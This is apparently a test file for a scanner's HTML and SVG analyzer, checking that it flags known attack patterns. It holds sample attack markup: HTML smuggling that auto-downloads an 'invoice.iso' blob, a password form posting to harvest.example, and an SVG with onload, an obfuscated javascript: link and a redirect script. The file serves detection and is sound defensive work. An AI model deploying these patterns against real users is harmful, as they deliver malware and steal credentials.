import { test } from 'node:test';
import assert from 'node:assert/strict';
import { htmlContent } from '../../../src/scan/analyzers/html-content.js';
import { contextWithFiles } from '../office/office-samples.js';

const ids = (findings: readonly { id: string }[]): string[] => findings.map((f) => f.id).sort();

test('HTML smuggling: atob + Blob + download', async () => {
  const b64 = Buffer.alloc(3000, 7).toString('base64');
  const html = `<html><body><script>var d = atob("${b64}"); var b = new Blob([d], {type: 'application/octet-stream'}); var a = document.createElement('a'); a.href = URL.createObjectURL(b); a.download = 'invoice.iso'; a.click();</script></body></html>`;
  const findings = await htmlContent.analyze(contextWithFiles([{ name: 'invoice.html', content: Buffer.from(html) }]));
  assert.deepEqual(ids(findings), ['HTML_SMUGGLING']);
  assert.match(findings[0]?.detail ?? '', /large base64, atob\(\), new Blob, URL\.createObjectURL, download attribute/);
});

test('a credential form posting to a web site, and a meta refresh', async () => {
  const html = '<html><head><meta http-equiv="refresh" content="5; url=https://next.example/"></head><body><form action="https://harvest.example/post.php" method="post"><input name="u"><input type="PASSWORD" name="p"></form><a href="https://bank.example/">bank</a></body></html>';
  const ctx = contextWithFiles([{ name: 'login.htm', content: Buffer.from(html) }]);
  const findings = await htmlContent.analyze(ctx);
  assert.deepEqual(ids(findings), ['HTML_ATTACHMENT_REDIRECT', 'HTML_CREDENTIAL_FORM']);
  assert.deepEqual([...ctx.facts.urls].sort(), ['https://bank.example/', 'https://harvest.example/post.php', 'https://next.example/']);
});

test('script in an SVG: element, handler and javascript: href with a tab', async () => {
  const svg = '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><a href="java\tscript:alert(2)"><text>x</text></a><script><![CDATA[location.href="https://phish.example/"]]></script></svg>';
  const findings = await htmlContent.analyze(contextWithFiles([{ name: 'image.svg', content: Buffer.from(svg) }]));
  assert.deepEqual(ids(findings), ['HTML_ATTACHMENT_REDIRECT', 'SVG_SCRIPT']);
  assert.match(findings.find((f) => f.id === 'SVG_SCRIPT')?.detail ?? '', /^image\.svg: onload=, href=javascript:, <script>$/);
});

test('benign HTML and SVG give no findings', async () => {
  const html = '<html><body><p>Hi</p><form action="/search"><input type="text"></form><script>console.log(1)</script></body></html>';
  const svg = '<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>';
  assert.deepEqual(await htmlContent.analyze(contextWithFiles([{ name: 'a.html', content: Buffer.from(html) }, { name: 'b.svg', content: Buffer.from(svg) }])), []);
});
